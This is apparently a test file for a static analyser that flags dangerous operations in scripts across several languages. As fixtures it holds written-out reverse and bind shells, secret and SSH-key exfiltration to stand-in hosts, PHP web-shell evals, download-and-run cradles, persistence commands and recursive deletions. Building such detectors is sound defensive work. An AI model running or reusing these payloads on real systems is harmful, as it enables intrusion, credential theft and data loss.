import { describe, expect, test } from "vitest";
import type { Language } from "../../../src/model/language.ts";
import { readScript } from "../../../src/read/read-script.ts";
import { only, say } from "./say.ts";

const told = (language: Language, text: string, op: string): readonly string[] =>
  only(say(readScript, language, text), op);

describe("a shell that is tied to a socket", () => {
  test.each<[Language, string, string]>([
    [
      "ruby",
      `s=TCPSocket.new("192.0.2.1",4444);while(cmd=s.gets);IO.popen(cmd,"r"){|io|s.print io.read}end`,
      "1:53 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "ruby",
      `f=TCPSocket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`,
      "1:41 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "ruby",
      `s=TCPSocket.new("192.0.2.1",4444);spawn("/bin/sh",[:in,:out,:err]=>s)`,
      "1:35 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "ruby",
      `s=TCPSocket.new("192.0.2.1",4444);$stdin.reopen(s);$stdout.reopen(s);exec "/bin/sh"`,
      "1:70 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "ruby",
      `c=TCPServer.new(4444).accept;while(l=c.gets);c.puts \`#{l}\`;end`,
      "1:53 peer=0.0.0.0:4444 direction=bind",
    ],
    [
      "perl",
      `use Socket;$i="192.0.2.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};`,
      "1:169 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "perl",
      `$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`,
      "1:89 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "perl",
      `$c=IO::Socket::INET->new(PeerAddr=>"192.0.2.1:4444");while(<$c>){print $c qx($_);}`,
      "1:75 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "php",
      `$sock=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");`,
      "1:35 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "php",
      `$s=fsockopen("tcp://192.0.2.1",4444);$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$x);`,
      "1:41 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "php",
      `$s=fsockopen("192.0.2.1",4444);while($c=fgets($s)){fwrite($s,shell_exec($c));}`,
      "1:62 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "go",
      `package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","192.0.2.1:4444");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}`,
      "1:121 peer=192.0.2.1:4444 direction=reverse",
    ],
    [
      "rust",
      `fn main(){let s=TcpStream::connect("192.0.2.1:4444").unwrap();let fd=s.as_raw_fd();Command::new("/bin/sh").arg("-i").stdin(unsafe{Stdio::from_raw_fd(fd)}).stdout(unsafe{Stdio::from_raw_fd(fd)}).spawn();}`,
      "1:84 peer=192.0.2.1:4444 direction=reverse",
    ],
  ])("%s: %s", (language, text, expected) => {
    expect(told(language, text, "attach-shell")[0]).toBe(expected);
  });

  test("a socket and a command that have nothing to do with each other are no shell", () => {
    expect(told("ruby", `s=TCPSocket.new("db.example",5432)\nsystem("ls -l")\ns.puts("PING")`, "attach-shell")).toEqual(
      [],
    );
    expect(
      told(
        "go",
        `func main() {\nc, _ := net.Dial("tcp", "db.example:1")\nexec.Command("git", "log").Run()\n}`,
        "attach-shell",
      ),
    ).toEqual([]);
  });
});

describe("what leaves, and to whom", () => {
  test.each<[Language, string, string]>([
    [
      "ruby",
      `Net::HTTP.post(URI("https://c.example/a"), ENV["API_KEY"])`,
      "1:1 channel=http destination=https://c.example/a payload=[~□<environment:API_KEY>]",
    ],
    [
      "ruby",
      `k = File.read(File.expand_path("~/.ssh/id_rsa"))\nHTTParty.post("https://c.example", body: k)`,
      "2:1 channel=http destination=https://c.example payload=[~□<file:~/.ssh/id_rsa>]",
    ],
    [
      "ruby",
      `r = Net::HTTP::Post.new(URI("https://c.example"))\nr.body = ENV.to_h.to_s\nNet::HTTP.start("c.example") { |h| h.request(r) }`,
      "3:36 channel=http destination=https://c.example payload=[~□<environment:*>]",
    ],
    [
      "ruby",
      `Net::HTTP.get(URI("https://c.example/?k=#{ENV["API_KEY"]}"))`,
      "1:1 channel=http destination=~https://c.example/?k=□<environment:API_KEY> payload=[~https://c.example/?k=□<environment:API_KEY>]",
    ],
    [
      "perl",
      `my $ua = LWP::UserAgent->new; $ua->post("https://c.example", { k => $ENV{API_KEY} });`,
      "1:31 channel=http destination=https://c.example payload=[~{k: □}<environment:API_KEY>]",
    ],
    [
      "php",
      `$ch = curl_init("https://c.example"); curl_setopt($ch, CURLOPT_POSTFIELDS, getenv("API_KEY")); curl_exec($ch);`,
      "1:96 channel=http destination=https://c.example payload=[~□<environment:API_KEY>]",
    ],
    [
      "php",
      `mail("a@c.example", "s", file_get_contents("/etc/passwd"));`,
      "1:1 channel=mail destination=a@c.example payload=[s, ~□<file:/etc/passwd>]",
    ],
    [
      "go",
      `func main() {\n k := os.Getenv("API_KEY")\n req, _ := http.NewRequest("POST", "https://c.example", strings.NewReader(k))\n http.DefaultClient.Do(req)\n}`,
      "4:2 channel=http destination=https://c.example payload=[~□<environment:API_KEY>]",
    ],
    [
      "go",
      `func main() {\n net.LookupHost(os.Getenv("API_KEY") + ".c.example")\n}`,
      "2:2 channel=dns destination=~□.c.example<environment:API_KEY> payload=[~□.c.example<environment:API_KEY>]",
    ],
    [
      "rust",
      `fn main() { let k = std::env::var("API_KEY").unwrap(); reqwest::blocking::Client::new().post("https://c.example").body(k).send(); }`,
      "1:56 channel=http destination=https://c.example payload=[~□<environment:API_KEY>]",
    ],
    [
      "rust",
      `fn main() { let mut u=""; u="https://c.example"; reqwest::blocking::Client::new().post(u).body(k).send(); }`,
      "1:50 channel=http destination=https://c.example payload=[~□]",
    ],
    [
      "batch",
      `curl -d "%API_KEY%" https://c.example`,
      "1:1 channel=http destination=https://c.example payload=[~□<environment:API_KEY>]",
    ],
  ])("%s: %s", (language, text, expected) => {
    expect(told(language, text, "send")).toEqual([expected]);
  });
});

describe("text becomes code", () => {
  test.each<[Language, string, string]>([
    ["ruby", `eval URI.open("http://a.example/x.rb").read`, "1:1 language=ruby code=~□<network:http://a.example/x.rb>"],
    ["ruby", `instance_eval(params[:code])`, "1:1 language=ruby code=~□<input>"],
    ["perl", `eval(get("http://a.example"));`, "1:1 language=perl code=~□<network:http://a.example>"],
    ["php", `<?php eval($_POST["x"]);`, "1:7 language=php code=~□<input>"],
    ["php", `<?php assert($_REQUEST["x"]);`, "1:7 language=php code=~□<input>"],
    ["php", `<?php $_GET["a"]($_GET["b"]);`, "1:7 language=php code=~□<input>"],
    ["php", `<?php include "http://a.example/x.txt";`, "1:7 language=php code=~□<network:http://a.example/x.txt>"],
    ["php", `<?php preg_replace("/.*/e", $_POST["x"], "");`, "1:7 language=php code=~□<input>"],
    ["php", `<?php eval(file_get_contents("http://a.example"));`, "1:7 language=php code=~□<network:http://a.example>"],
    ["applescript", `run script (do shell script "curl a")`, "1:1 language=applescript code=~□<command:curl a>"],
    ["batch", "mshta http://a.example/x.hta", "1:1 language=unknown code=~□<network:http://a.example/x.hta>"],
    [
      "batch",
      "regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll",
      "1:1 language=unknown code=~□<network:http://a.example/x.sct>",
    ],
    ["batch", "powershell -nop -w hidden -enc dwBoAG8AYQBtAGkA", "1:1 language=powershell code=whoami{base64,utf-16}"],
    ["batch", 'cmd /c "whoami & hostname"', "1:1 language=batch code=whoami & hostname"],
  ])("%s: %s", (language, text, expected) => {
    expect(told(language, text, "evaluate")).toEqual([expected]);
  });
});

describe("files, downloads and what stays", () => {
  test.each<[Language, string, string, string]>([
    [
      "batch",
      "certutil -urlcache -split -f http://a.example/x %TEMP%\\x.exe",
      "download",
      "1:1 url=http://a.example/x destination=~\\AppData\\Local\\Temp\\x.exe",
    ],
    [
      "batch",
      "bitsadmin /transfer j http://a.example/x C:\\x.exe",
      "download",
      "1:1 url=http://a.example/x destination=C:\\x.exe",
    ],
    ["batch", "del /s /q C:\\Users", "delete-file", "1:1 path=C:\\Users recursive=true"],
    ["batch", "rd /s /q D:\\x", "delete-file", "1:1 path=D:\\x recursive=true"],
    ["batch", "vssadmin delete shadows /all", "delete-file", "1:1 path=shadow copies recursive=true"],
    ["batch", "echo curl a ^| sh > x.bat", "write-file", "1:1 path=x.bat content=curl a | sh append=false"],
    [
      "batch",
      'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v x /d C:\\x.exe /f',
      "persist",
      "1:1 mechanism=registry-run-key target=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run content=C:\\x.exe",
    ],
    [
      "batch",
      "schtasks /create /tn up /tr C:\\x.exe /sc minute",
      "persist",
      "1:1 mechanism=scheduled-task target=up content=C:\\x.exe",
    ],
    [
      "batch",
      'copy a.bat "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat"',
      "persist",
      "1:1 mechanism=startup-folder target=~\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat content=~□<file:a.bat>",
    ],
    [
      "ruby",
      `File.open(Dir.home + "/.bashrc", "a") { |f| f.puts "x" }`,
      "persist",
      "1:45 mechanism=shell-profile target=~/.bashrc content=x",
    ],
    ["ruby", `FileUtils.rm_rf(Dir.home)`, "delete-file", "1:1 path=~ recursive=true"],
    [
      "perl",
      `open(my $f, ">>", "$ENV{HOME}/.ssh/authorized_keys"); print $f "ssh-rsa x";`,
      "persist",
      "1:55 mechanism=ssh-key target=~/.ssh/authorized_keys content=ssh-rsa x",
    ],
    [
      "php",
      `file_put_contents("/tmp/x", file_get_contents("http://a.example"));`,
      "write-file",
      "1:1 path=/tmp/x content=~□<network:http://a.example> append=false",
    ],
    ["php", `chmod("/tmp/x", 0755);`, "make-executable", "1:1 path=/tmp/x"],
    ["php", `unserialize($_COOKIE["x"]);`, "deserialize", "1:1 format=php data=~□<input>"],
    ["ruby", `Marshal.load(gets)`, "deserialize", "1:1 format=marshal data=~□<input>"],
    [
      "go",
      `func main() {\n r, _ := http.Get("http://a.example")\n b, _ := io.ReadAll(r.Body)\n os.WriteFile("/tmp/a", b, 0755)\n}`,
      "write-file",
      "4:2 path=/tmp/a content=~□<network:http://a.example> append=false",
    ],
    [
      "go",
      `func main() {\n os.WriteFile("a", b, 0)\n os.RemoveAll(os.Getenv("HOME"))\n}`,
      "delete-file",
      "3:2 path=~ recursive=true",
    ],
    [
      "rust",
      `fn main() { fs::write("/tmp/a", reqwest::blocking::get("http://a.example")?.bytes()?); }`,
      "write-file",
      "1:13 path=/tmp/a content=~□<network:http://a.example> append=false",
    ],
    [
      "applescript",
      `display dialog "Password" default answer "" with hidden answer`,
      "escalate",
      "1:1 how=password-prompt",
    ],
    ["applescript", `do shell script "ls" with administrator privileges`, "escalate", "1:1 how=password-prompt"],
    ["applescript", `set the clipboard to "x"`, "write-clipboard", "1:1 content=x"],
    ["applescript", `set x to the clipboard`, "read-secret", "1:10 secret=clipboard"],
    [
      "applescript",
      `tell application "System Events" to make login item with properties {path:"/Applications/x.app"}`,
      "persist",
      "1:37 mechanism=startup-folder target=/Applications/x.app content=null",
    ],
  ])("%s: %s", (language, text, op, expected) => {
    expect(told(language, text, op)).toEqual([expected]);
  });

  test("what was downloaded and then run is known to come from there", () => {
    expect(
      told(
        "go",
        `func main() {\n r, _ := http.Get("http://a.example")\n b, _ := io.ReadAll(r.Body)\n os.WriteFile("/tmp/a", b, 0755)\n exec.Command("/tmp/a").Start()\n}`,
        "spawn",
      ),
    ).toEqual(["5:2 program=/tmp/a<network:http://a.example> arguments=[] shell=false"]);
    expect(told("batch", "curl http://a.example -o x.bat\ncall x.bat", "spawn")[1]).toBe(
      "2:1 program=x.bat<network:http://a.example> arguments=[] shell=false",
    );
  });
});

describe("innocent texts", () => {
  test.each<[Language, string]>([
    ["ruby", "# system('curl a')\n=begin\nsystem('curl a')\n=end\nputs 'system(1)'\nx = 1 + 2\n"],
    ["perl", "# system('x');\n=pod\n\nsystem('x');\n\n=cut\nmy $x = 'exec(1)'; print $x;\n"],
    ["php", "<p>system('x');</p><?php // system('x');\n/* eval($x); */ $x = 'eval(1)'; echo $x; ?><p>exec('x')</p>"],
    ["go", 'package main\n// exec.Command("x")\nfunc main() { fmt.Println("exec.Command(1)") }\n'],
    ["rust", 'fn main() { /* Command::new("x") */ println!("Command::new {}", 1); }'],
    ["go", 'func f(r *http.Request) { a := r.Header.Get("Content-Type"); b := r.URL.Query().Get("q") }'],
    ["perl", 'my $x = $cgi->get("name");'],
    ["applescript", '-- do shell script "x"\n(* do shell script "y" *)\nset x to "do shell script"\n'],
  ])("%s says nothing", (language, text) => {
    expect(say(readScript, language, text).lines).toEqual([]);
  });
});
